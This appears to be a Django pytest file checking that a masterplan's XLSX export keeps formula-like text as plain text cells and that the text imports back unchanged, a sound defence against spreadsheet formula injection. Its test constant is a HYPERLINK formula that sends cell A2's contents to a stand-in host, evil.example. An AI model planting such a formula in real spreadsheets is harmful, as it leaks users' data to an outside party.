"""Text a team wrote leaves the XLSX as text, never as a live formula, and imports back as is."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from cerdas.masterplans import importing
from cerdas.masterplans.tests.factories import add_program, make_plan, take_through

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Klik")'


@pytest.fixture
def plan_with_formula(member_a, assessor_a):
    plan = make_plan()
    add_program(plan, name=FORMULA, partners="+62 812", description="@SUM(A1)")
    return take_through(plan, member_a, assessor_a, "submit", "start_review", "approve")


@pytest.mark.django_db
def test_a_program_named_like_a_formula_is_a_text_cell_in_the_xlsx(client, plan_with_formula):
    response = client.get(f"/masterplan/{plan_with_formula.pk}/unduh/xlsx/")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    cell = workbook["Programs"]["A2"]
    assert cell.value == FORMULA and cell.data_type == "s"
    assert all(c.data_type != "f" for row in workbook["Budgets"].iter_rows() for c in row)
    assert workbook["Indicators"]["A2"].data_type == "s"


@pytest.mark.django_db
def test_the_exported_workbook_imports_back_with_the_text_unchanged(client, plan_with_formula):
    content = client.get(f"/masterplan/{plan_with_formula.pk}/unduh/xlsx/").content
    upload = SimpleUploadedFile("programs.xlsx", content)
    preview = importing.read_workbook(upload, plan_with_formula)
    (program,) = preview["programs"]
    assert program["values"]["name"] == FORMULA
    assert program["action"] == "update"
